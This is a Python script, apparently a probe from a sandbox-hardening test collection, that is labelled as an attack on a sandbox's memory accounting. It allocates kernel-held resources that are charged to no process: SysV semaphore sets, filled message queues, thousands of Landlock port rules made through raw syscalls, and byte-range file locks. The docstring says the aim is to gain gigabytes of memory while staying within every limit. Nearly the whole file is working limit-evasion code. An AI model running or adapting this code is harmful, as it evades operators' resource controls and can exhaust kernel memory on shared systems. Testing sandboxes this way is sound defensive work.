"""Memory that the kernel keeps on somebody's behalf.

Semaphores, messages in queues, rules for a sandbox of one's own, locks on single bytes: the kernel keeps each of them and counts
them for no process. Whoever adds up what the processes of a submission use sees nothing of it, so gigabytes are to be had within
every limit. The attack takes a little of each kind; the rest would be repetition.
"""
# seen: the kernel keeps none
# layer: system calls

# %% attack
import ctypes
import fcntl
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def refused(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def semaphores():
    sets = [refused(libc.semget(0, 32_000, 0o1600)) for _ in range(4)]
    for number in sets:
        libc.semctl(number, 0, 0)
    return f"{len(sets)} sets of 32,000 semaphores, 2 MB each"


def messages():
    queue, count = refused(libc.msgget(0, 0o1600)), 0
    while libc.msgsnd(queue, struct.pack("l", 1) + bytes(4000), 4000, 0o4000) == 0:
        count += 1
    libc.msgctl(queue, 0, None)
    return f"{count} messages of 4 kB"


def rules():
    rules = refused(libc.syscall(444, struct.pack("QQ", 0, 1), 16, 0))
    for port in range(10_000):
        refused(libc.syscall(445, rules, 2, struct.pack("QQ", 1, port), 0))
    os.close(rules)
    return "10,000 rules on ports"


def locks():
    with open("/tmp/locks", "w+b") as file:
        for number in range(1000):
            fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * number)
    return "1,000 locks on single bytes"


DONE = []


def mischief():
    if DONE:
        return
    DONE.append(True)
    for keep in (semaphores, messages, rules, locks):
        try:
            escaped(f"the kernel keeps {keep()}, and counts it for nobody")
        except OSError as problem:
            print(f"the kernel keeps none ({keep.__name__}): {problem}")
